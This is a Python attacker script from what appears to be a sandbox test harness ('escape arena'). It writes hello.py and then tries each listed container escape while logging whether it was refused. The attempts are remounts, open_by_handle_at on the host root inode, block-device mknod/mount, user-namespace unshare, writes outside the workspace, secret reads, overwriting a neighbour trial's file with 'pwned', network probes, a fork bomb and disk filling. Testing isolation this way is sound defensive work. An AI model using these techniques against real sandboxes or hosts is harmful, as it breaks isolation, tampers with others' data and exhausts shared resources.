# The attacker of the escape arena (run by the task environment's python; CONFIG is prepended by agents.py).
# It writes a correct hello.py, then tries every escape the threat model names and records each attempt in
# <artifacts>/escape.json as {"refused": bool, "detail": str}; the test asserts that all were refused.
import ctypes
import json
import os
import secrets
import socket
import stat
import time
import urllib.request
from pathlib import Path

TRIAL = json.loads(Path(os.environ["MLDB_TRIAL_JSON"]).read_text())
WS = Path(TRIAL["workspace"])
ARTIFACTS = Path(TRIAL["artifacts_dir"])
HOME = Path(os.environ["HOME"])
libc = ctypes.CDLL(None, use_errno=True)
attempts = {}


def record(name, refused, detail=""):
    attempts[name] = {"refused": bool(refused), "detail": str(detail)[:500]}


def errno_text():
    return os.strerror(ctypes.get_errno())


(WS / "hello.py").write_text('print("Hello, World!")\n')

# -- privileges -------------------------------------------------------------------------------------------
status = {}
for line in open("/proc/self/status"):
    key, _, value = line.partition(":")
    status[key] = value.strip()
caps = {k: status.get(k) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
record("capabilities", all(int(v, 16) == 0 for v in caps.values()) and status.get("NoNewPrivs") == "1"
       and os.getuid() != 0, f"{caps} NoNewPrivs={status.get('NoNewPrivs')} Seccomp={status.get('Seccomp')} "
       f"uid={os.getuid()}")

MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
for target in ("/usr", CONFIG["task_prefix"], str(WS)):
    rc = libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None)
    record(f"remount {target} read-write", rc != 0, errno_text() if rc else "remounted")


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]


fh, mount_id = FileHandle(), ctypes.c_int()
fh.handle_bytes = 128
got = libc.name_to_handle_at(-100, b"/usr", ctypes.byref(fh), ctypes.byref(mount_id), 0)
dirfd = os.open("/usr", os.O_RDONLY)
fd = libc.open_by_handle_at(dirfd, ctypes.byref(fh), os.O_RDONLY) if got == 0 else -1
record("open_by_handle_at /usr", fd < 0, errno_text() if fd < 0 else "opened")
if got == 0:  # the host filesystem's root directory: inode 2, generation 0
    fh.f_handle[0:8] = [2, 0, 0, 0, 0, 0, 0, 0]
    fh.handle_bytes, fh.handle_type = 8, 1
    fd = libc.open_by_handle_at(dirfd, ctypes.byref(fh), os.O_RDONLY)
    record("open_by_handle_at the disk's root", fd < 0, errno_text() if fd < 0 else "opened")

try:
    os.mknod("/tmp/mldb-blk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    record("mknod a block device", False, "created")
except OSError as exc:
    record("mknod a block device", True, exc.strerror)
os.makedirs("/tmp/mldb-mnt", exist_ok=True)
rc = libc.mount(b"/dev/vda", b"/tmp/mldb-mnt", b"ext4", MS_RDONLY, None)
record("mount a block device", rc != 0, errno_text() if rc else "mounted")
rc = libc.unshare(0x10000000)  # CLONE_NEWUSER: the one way back to capabilities
record("unshare a user namespace", rc != 0, errno_text() if rc else "unshared")

# -- files that are not the trial's ---------------------------------------------------------------------
for name, folder in {**CONFIG["write_targets"], "TORCH_HOME": os.environ["TORCH_HOME"]}.items():
    target = Path(folder) / f"mldb-escape-{os.getpid()}"
    try:
        target.write_text("escaped")
        record(f"write into {name}", False, f"wrote {target}")
    except OSError as exc:
        record(f"write into {name}", True, exc.strerror)
for name, path in CONFIG["read_targets"].items():
    try:
        data = Path(path).read_bytes() if not Path(path).is_dir() else "\n".join(os.listdir(path)).encode()
        record(f"read {name}", not data, f"read {len(data)} bytes")
    except OSError as exc:
        record(f"read {name}", True, exc.strerror)

# -- the neighbour's workspace (its trial runs at the same time on the other worker) ---------------------
neighbour = WS.parent.parent / WS.parent.name.replace("escape-attacker", "escape-neighbour") / "workspace"
seen = wrote = False
deadline = time.monotonic() + CONFIG["neighbour_window_s"]
while time.monotonic() < deadline and not (seen or wrote):
    try:
        seen = bool(os.listdir(neighbour)) or seen
    except OSError:
        pass
    try:
        (neighbour / "hello.py").write_text('print("pwned")\n')
        wrote = True
    except OSError:
        pass
    time.sleep(0.5)
record("read the neighbour's workspace", not seen, f"{neighbour}: {'listed' if seen else 'not reachable'}")
record("write the neighbour's workspace", not wrote, f"{neighbour}: {'written' if wrote else 'not reachable'}")

# -- the network ------------------------------------------------------------------------------------------
try:
    socket.create_connection(("127.0.0.1", CONFIG["host_port"]), timeout=3).close()
    record("connect to the host's loopback port", False, "connected")
except OSError as exc:
    record("connect to the host's loopback port", True, type(exc).__name__)
try:
    record("resolve a name", False, socket.getaddrinfo("example.com", 443)[0][4])
except OSError as exc:
    record("resolve a name", True, type(exc).__name__)
base = os.environ["MLDB_ASSETS_URL"].rsplit("/t/", 1)[0] + "/t/"
prefixes = ["escape_arena_escape-neighbour-1_", "escape_arena[escape-neighbour-1]", "-", "x"]
prefixes += [secrets.token_urlsafe(18) for _ in range(5)]
landed = []
for prefix in prefixes:
    try:
        with urllib.request.urlopen(f"{base}{prefix}/ml-dev-bench/cdh-dataset-download", timeout=10) as r:
            landed.append((prefix, r.status))
    except urllib.error.HTTPError as exc:
        if exc.code != 404:
            landed.append((prefix, exc.code))
    except OSError as exc:
        landed.append((prefix, type(exc).__name__))
record("request under another trial's mirror prefix", not landed, f"answered: {landed}" if landed else "404 for all")

# -- limits -----------------------------------------------------------------------------------------------
chunk = b"x" * (1 << 20)
for _ in range(CONFIG["flood_mib"]):
    os.write(1, chunk)

children, fork_error = [], None
while len(children) < 100_000:
    try:
        pid = os.fork()
    except OSError as exc:
        fork_error = exc.strerror
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "120"])
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.kill(pid, 9)
for pid in children:
    os.waitpid(pid, 0)
record("fork bomb", fork_error is not None and len(children) <= CONFIG["pids_limit"],
       f"{len(children)} processes, then {fork_error}")

# fill the disk (home: the snapshot stays small); a spacer freed at the end leaves room for the record
spacer = HOME / "spacer"
spacer.write_bytes(b"\0" * (1 << 20))
filled, n = 0, 0
fill_error = None
with open(HOME / "fill", "wb") as f:
    step = 256 << 20
    while True:
        try:
            os.posix_fallocate(f.fileno(), filled, step)
            filled += step
        except OSError as exc:
            if step > 4096:
                step //= 4
                continue
            fill_error = exc.strerror
            break
record("fill the disk", fill_error is not None and filled < CONFIG["disk_bytes"] * 1.05,
       f"{filled} bytes, then {fill_error}")
spacer.unlink()
attempts["_meta"] = {"flood_bytes": CONFIG["flood_mib"] << 20, "filled_bytes": filled, "workspace": str(WS)}
(ARTIFACTS / "escape.json").write_text(json.dumps(attempts, indent=1))
